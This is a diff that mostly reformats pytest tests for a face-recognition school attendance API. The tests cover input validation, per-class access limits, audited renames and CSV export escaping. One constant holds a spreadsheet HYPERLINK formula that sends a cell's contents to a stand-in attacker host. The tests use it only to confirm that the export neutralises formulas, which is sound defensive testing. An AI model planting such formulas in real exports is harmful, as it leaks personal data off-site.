@@ -13,13 +13,13 @@ from pathlib import Path
 import pytest
 import redis
 
+from attendance.config.settings import Settings
+from attendance.domain.schemas import AttendanceRecord
 from attendance.stores.blob import open_blob_store
 from attendance.stores.records import open_records
-from attendance.domain.schemas import AttendanceRecord
-from attendance.config.settings import Settings
+from attendance.web.app import create_app
 from tests import tokens
 from tests.conftest import redis_url_for
-from attendance.web.app import create_app
 
 REDIS_DB = 13
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
@@ -30,8 +30,11 @@ def settings(tmp_path: Path) -> Settings:
     url = redis_url_for(REDIS_DB)
     redis.Redis.from_url(url).flushdb()
     return Settings(
-        _env_file=None, REDIS_URL=url, blob_store_url=f"file://{tmp_path}/store",
-        records_url=f"sqlite:///{tmp_path}/db.sqlite", api_tokens=tokens.TOKENS_JSON,
+        _env_file=None,
+        REDIS_URL=url,
+        blob_store_url=f"file://{tmp_path}/store",
+        records_url=f"sqlite:///{tmp_path}/db.sqlite",
+        api_tokens=tokens.TOKENS_JSON,
         api_tokens_file=tmp_path / "no-tokens-file.json",
     )
 
@@ -77,17 +80,23 @@ def test_a_hostile_student_id_in_a_path_deletes_nothing(client, blobs, hostile):
 
 
 def test_a_student_id_with_a_newline_is_refused_before_anything_is_stored(client, blobs):
-    response = client.post("/api/v1/students", data={
-        "student_id": "sec-x\n", "name": "X", "photos": (io.BytesIO(b"x"), "a.jpg")},
-        content_type="multipart/form-data")
+    response = client.post(
+        "/api/v1/students",
+        data={"student_id": "sec-x\n", "name": "X", "photos": (io.BytesIO(b"x"), "a.jpg")},
+        content_type="multipart/form-data",
+    )
     assert error_code(response, 400) == "invalid_student_id"
     assert blobs.list("") == []
 
 
-@pytest.mark.parametrize("path", [
-    f"/api/v1/annotated/{'ab' * 16}%0A/0", f"/api/v1/jobs/{'ab' * 16}%0A",
-    f"/api/v1/jobs/{'AB' * 16}",
-])
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/api/v1/annotated/{'ab' * 16}%0A/0",
+        f"/api/v1/jobs/{'ab' * 16}%0A",
+        f"/api/v1/jobs/{'AB' * 16}",
+    ],
+)
 def test_a_job_id_with_anything_around_it_is_not_found(client, path):
     assert error_code(client.get(path), 404) in ("job_not_found", "not_found")
 
@@ -97,10 +106,17 @@ def test_a_job_id_with_anything_around_it_is_not_found(client, path):
 
 def test_the_csv_export_never_holds_a_formula(client, records):
     records.upsert_student("evil", HOSTILE, "room-1")
-    records.mark_present(AttendanceRecord(
-        class_id="room-1", date=dt.date(2026, 11, 2), student_id="evil", name=HOSTILE,
-        first_seen_at=dt.datetime(2026, 11, 2, 8, tzinfo=dt.timezone.utc), distance=0.2,
-        job_id="ab" * 16))
+    records.mark_present(
+        AttendanceRecord(
+            class_id="room-1",
+            date=dt.date(2026, 11, 2),
+            student_id="evil",
+            name=HOSTILE,
+            first_seen_at=dt.datetime(2026, 11, 2, 8, tzinfo=dt.UTC),
+            distance=0.2,
+            job_id="ab" * 16,
+        )
+    )
     response = client.get("/api/v1/attendance?class_id=room-1&format=csv")
     assert response.status_code == 200 and response.mimetype == "text/csv"
     assert response.data.startswith("\ufeff".encode())  # spreadsheets then read UTF-8
@@ -108,8 +124,9 @@ def test_the_csv_export_never_holds_a_formula(client, records):
     assert [r["name"] for r in rows] == ["'" + HOSTILE]
     assert rows[0]["distance"] == "0.2"
     # The JSON answer is data, not a spreadsheet: the name as it was given.
-    assert client.get("/api/v1/attendance?class_id=room-1").get_json()[
-        "records"][0]["name"] == HOSTILE
+    assert (
+        client.get("/api/v1/attendance?class_id=room-1").get_json()["records"][0]["name"] == HOSTILE
+    )
 
 
 # --- class limits -------------------------------------------------------------------------------
@@ -119,8 +136,7 @@ def room1_teacher() -> dict:
     return tokens.bearer(tokens.ROOM1_TEACHER)
 
 
-def test_a_class_limited_teacher_sees_only_their_classes_jobs_and_photos(client, settings,
-                                                                        blobs):
+def test_a_class_limited_teacher_sees_only_their_classes_jobs_and_photos(client, settings, blobs):
     from attendance.stores.jobs import JobStore
 
     jobs = JobStore.from_url(settings.redis_url, 60)
@@ -133,35 +149,50 @@ def test_a_class_limited_teacher_sees_only_their_classes_jobs_and_photos(client,
 
     assert client.get(f"/api/v1/jobs/{theirs}", headers=room1_teacher()).status_code == 200
     assert client.get(f"/api/v1/annotated/{theirs}/0", headers=room1_teacher()).status_code == 200
-    for path in (f"/api/v1/jobs/{other}", f"/api/v1/annotated/{other}/0",
-                 f"/api/v1/jobs/{no_class}"):
+    for path in (
+        f"/api/v1/jobs/{other}",
+        f"/api/v1/annotated/{other}/0",
+        f"/api/v1/jobs/{no_class}",
+    ):
         assert error_code(client.get(path, headers=room1_teacher()), 403) == "class_forbidden"
     # An unlimited teacher and the admin see them all.
-    for path in (f"/api/v1/jobs/{other}", f"/api/v1/annotated/{other}/0",
-                 f"/api/v1/jobs/{no_class}"):
+    for path in (
+        f"/api/v1/jobs/{other}",
+        f"/api/v1/annotated/{other}/0",
+        f"/api/v1/jobs/{no_class}",
+    ):
         assert client.get(path, headers=tokens.bearer(tokens.TEACHER)).status_code == 200
         assert client.get(path).status_code == 200
 
 
 def test_a_class_limited_teacher_sees_only_their_classes_of_a_student_and_the_model(
-        client, records, blobs, settings):
-    from attendance.stores.gallery import GalleryRepository
+    client, records, blobs, settings
+):
     from attendance.services.pipeline import pipeline_id
+    from attendance.stores.gallery import GalleryRepository
 
     records.upsert_student("ann", "Ann", "room-1")
     records.upsert_student("ann", "Ann", "room-2")
     records.upsert_student("bob", "Bob", "room-2")
     GalleryRepository(blobs, records).commit(
-        __import__("numpy").ones((3, 128)), ["ann", "bob", "bob"], segment_id="j1",
-        pipeline=pipeline_id(settings), model_name="Facenet", detector=settings.detector,
-        metric="cosine", threshold=0.45)
+        __import__("numpy").ones((3, 128)),
+        ["ann", "bob", "bob"],
+        segment_id="j1",
+        pipeline=pipeline_id(settings),
+        model_name="Facenet",
+        detector=settings.detector,
+        metric="cosine",
+        threshold=0.45,
+    )
 
     ann = client.get("/api/v1/students/ann", headers=room1_teacher()).get_json()
     assert ann["class_ids"] == ["room-1"]
     listed = client.get("/api/v1/students", headers=room1_teacher()).get_json()["students"]
     assert [(s["student_id"], s["class_ids"]) for s in listed] == [("ann", ["room-1"])]
-    assert error_code(client.get("/api/v1/students/bob", headers=room1_teacher()),
-                      404) == "student_not_found"
+    assert (
+        error_code(client.get("/api/v1/students/bob", headers=room1_teacher()), 404)
+        == "student_not_found"
+    )
     model = client.get("/api/v1/model", headers=room1_teacher()).get_json()
     assert (model["students"], model["embeddings"]) == (1, 1)
     everything = client.get("/api/v1/model").get_json()
@@ -176,8 +207,13 @@ def test_exporting_attendance_needs_a_teacher(client, records):
     assert client.get(url, headers=viewer).status_code == 200
     assert error_code(client.get(url + "&format=csv", headers=viewer), 403) == "forbidden"
     assert client.get(url + "&format=csv", headers=room1_teacher()).status_code == 200
-    assert error_code(client.get("/api/v1/attendance?class_id=room-2&format=csv",
-                                 headers=room1_teacher()), 403) == "class_forbidden"
+    assert (
+        error_code(
+            client.get("/api/v1/attendance?class_id=room-2&format=csv", headers=room1_teacher()),
+            403,
+        )
+        == "class_forbidden"
+    )
 
 
 # --- one id, one student ------------------------------------------------------------------------
@@ -190,9 +226,16 @@ def face_upload(faces_dir):
 def test_enrolling_a_taken_id_is_refused_and_stores_nothing(client, records, blobs, faces_dir):
     records.upsert_student("ben", "Ben Affleck", "room-2")
     for name in ("Benjamin Someone", "Ben Affleck"):
-        response = client.post("/api/v1/students", data={
-            "student_id": "ben", "name": name, "class_id": "room-1",
-            "photos": face_upload(faces_dir)}, content_type="multipart/form-data")
+        response = client.post(
+            "/api/v1/students",
+            data={
+                "student_id": "ben",
+                "name": name,
+                "class_id": "room-1",
+                "photos": face_upload(faces_dir),
+            },
+            content_type="multipart/form-data",
+        )
         assert error_code(response, 409) == "student_exists"
         assert "/api/v1/students/ben/photos" in response.get_json()["error"]["message"]
     assert records.get_student("ben").name == "Ben Affleck"
@@ -203,22 +246,35 @@ def test_enrolling_a_taken_id_is_refused_and_stores_nothing(client, records, blo
 def test_adding_photos_is_its_own_request(client, records, settings, blobs, faces_dir):
     from attendance.stores.jobs import JobStore
 
-    response = client.post("/api/v1/students/nobody/photos",
-                           data={"photos": face_upload(faces_dir)},
-                           content_type="multipart/form-data")
+    response = client.post(
+        "/api/v1/students/nobody/photos",
+        data={"photos": face_upload(faces_dir)},
+        content_type="multipart/form-data",
+    )
     assert error_code(response, 404) == "student_not_found"
     records.upsert_student("ben", "Ben Affleck", "room-2")
-    response = client.post("/api/v1/students/ben/photos", data={
-        "photos": face_upload(faces_dir), "class_id": "room-1"},
-        content_type="multipart/form-data")
+    response = client.post(
+        "/api/v1/students/ben/photos",
+        data={"photos": face_upload(faces_dir), "class_id": "room-1"},
+        content_type="multipart/form-data",
+    )
     assert response.status_code == 202, response.get_json()
     job_id = response.get_json()["job_id"]
     job = JobStore.from_url(settings.redis_url, 60).get(job_id)
     assert (job.kind, job.class_id) == ("enrollment", "room-1")
     assert blobs.exists(f"students/ben/jobs/{job_id}")  # so an erasure finds the job
-    assert error_code(client.post("/api/v1/students/ben/photos", data={
-        "photos": face_upload(faces_dir)}, content_type="multipart/form-data",
-        headers=tokens.bearer(tokens.TEACHER)), 403) == "forbidden"
+    assert (
+        error_code(
+            client.post(
+                "/api/v1/students/ben/photos",
+                data={"photos": face_upload(faces_dir)},
+                content_type="multipart/form-data",
+                headers=tokens.bearer(tokens.TEACHER),
+            ),
+            403,
+        )
+        == "forbidden"
+    )
 
 
 def test_renaming_is_its_own_audited_request(client, records):
@@ -231,14 +287,28 @@ def test_renaming_is_its_own_audited_request(client, records):
     assert (entry.actor, entry.target) == ("admin", "ben")
     assert "Affleck" not in json.dumps(entry.detail)  # the audit log outlives an erasure
 
-    assert error_code(client.patch("/api/v1/students/nobody", json={"name": "X"}),
-                      404) == "student_not_found"
-    assert error_code(client.patch("/api/v1/students/ben", json={"name": ""}),
-                      400) == "missing_name"
-    assert error_code(client.patch("/api/v1/students/ben", json={"name": "X", "id": "y"}),
-                      400) == "invalid_request"
-    assert error_code(client.patch("/api/v1/students/ben", data="name=X"),
-                      415) == "unsupported_media_type"
-    assert error_code(client.patch("/api/v1/students/ben", json={"name": "X"},
-                                   headers=tokens.bearer(tokens.TEACHER)), 403) == "forbidden"
+    assert (
+        error_code(client.patch("/api/v1/students/nobody", json={"name": "X"}), 404)
+        == "student_not_found"
+    )
+    assert (
+        error_code(client.patch("/api/v1/students/ben", json={"name": ""}), 400) == "missing_name"
+    )
+    assert (
+        error_code(client.patch("/api/v1/students/ben", json={"name": "X", "id": "y"}), 400)
+        == "invalid_request"
+    )
+    assert (
+        error_code(client.patch("/api/v1/students/ben", data="name=X"), 415)
+        == "unsupported_media_type"
+    )
+    assert (
+        error_code(
+            client.patch(
+                "/api/v1/students/ben", json={"name": "X"}, headers=tokens.bearer(tokens.TEACHER)
+            ),
+            403,
+        )
+        == "forbidden"
+    )
     assert records.get_student("ben").name == "Benjamin Affleck"
